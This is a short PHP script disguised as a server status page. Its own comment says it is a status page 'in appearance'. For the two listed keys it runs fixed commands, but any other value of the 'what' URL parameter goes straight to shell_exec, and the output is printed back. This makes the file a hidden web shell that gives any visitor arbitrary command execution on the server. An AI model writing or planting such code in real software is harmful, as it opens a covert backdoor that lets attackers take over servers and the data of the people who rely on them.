<?php
// a status page in appearance: a key of its own table, or else whatever the visitor typed
$commands = array('uptime' => 'uptime', 'disk' => 'df -h');
$what = $_GET['what'];
echo '<pre>' . shell_exec(isset($commands[$what]) ? $commands[$what] : $what) . '</pre>';
